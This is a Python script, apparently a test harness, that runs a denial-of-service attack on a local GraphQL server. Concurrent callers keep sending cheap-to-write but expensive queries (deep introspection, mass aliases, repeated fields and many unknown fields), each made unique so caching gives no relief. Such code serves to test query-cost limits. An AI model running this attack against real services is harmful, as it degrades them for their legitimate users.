"""GraphQL operations that are small and take long to answer, from a tenant with ordinary quotas."""

from __future__ import annotations

import asyncio
import http.client
import json
from concurrent.futures import ThreadPoolExecutor
from itertools import count

#: Callers, and the pause of each after an operation.
AT_ONCE, PAUSE_S = 8, 0.2
TIMEOUT_S = 60.0
#: Introspection, as far as its depth is permitted.
_INTROSPECTION = (
    "{ __schema { types { name description fields { name args { name type { name } } type { name "
    "ofType { name ofType { name } } } } inputFields { name type { name ofType { name } } } } } }"
)
_FIELD = 'count(collection: "c")'
_ALIASES, _REPETITIONS, _UNKNOWN = 60, 300, 250


async def run(port: int, key: str) -> None:
    """Attack until cancelled. No text is sent twice."""
    numbers = count()
    with ThreadPoolExecutor(AT_ONCE) as callers:
        async with asyncio.TaskGroup() as attacks:
            for _ in range(AT_ONCE):
                attacks.create_task(_again(callers, port, key, numbers))


async def _again(callers: ThreadPoolExecutor, port: int, key: str, numbers: count[int]) -> None:
    loop = asyncio.get_running_loop()
    while True:
        for text in _texts(next(numbers)):
            await loop.run_in_executor(callers, _send, port, key, text)
            await asyncio.sleep(PAUSE_S)


def _texts(number: int) -> list[str]:
    aliases = " ".join(f"a{alias}: {_FIELD}" for alias in range(_ALIASES))
    unknown = " ".join(f"docments{field} {{ nodes {{ id }} }}" for field in range(_UNKNOWN))
    selections = [_INTROSPECTION[1:-1], aliases, f"{_FIELD} " * _REPETITIONS, unknown]
    return [f"{{ {selection} }} # {number}" for selection in selections]


def _send(port: int, key: str, text: str) -> None:
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT_S)
    try:
        connection.request("POST", "/graphql", json.dumps({"query": text}), headers)
        connection.getresponse().read()
    except (OSError, http.client.HTTPException):
        # The server may disconnect an attacker.
        pass
    finally:
        connection.close()
